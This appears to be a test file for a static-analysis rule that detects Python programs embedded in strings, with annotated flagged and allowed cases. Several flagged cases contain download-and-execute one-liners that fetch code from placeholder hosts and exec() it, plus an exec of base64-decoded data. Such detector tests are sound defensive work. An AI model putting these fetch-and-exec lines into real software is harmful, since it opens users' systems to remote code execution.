# ruleid: py-program-in-text
file.write(b"from urllib.request import urlopen as u;exec(u('https://b.invalid/inject').read())")
# ruleid: py-program-in-text
file.write("from urllib.request import urlopen as u;exec(u('https://a.invalid/inject').read())")
# ruleid: py-program-in-text
run([sys.executable, "-c", "exec(urlopen('https://a.invalid').read())"])
# ruleid: py-program-in-text
run([sys.executable, "-c", "import base64; exec(base64.b64decode('aW5lcnQ='))"])
# ok: py-program-in-text
run([sys.executable, "-c", "import sys; print(sys.version)"])
# ok: py-program-in-text
say("Use of exec() and eval() is discouraged")
# ok: py-program-in-text
say("import urllib and use urlopen")
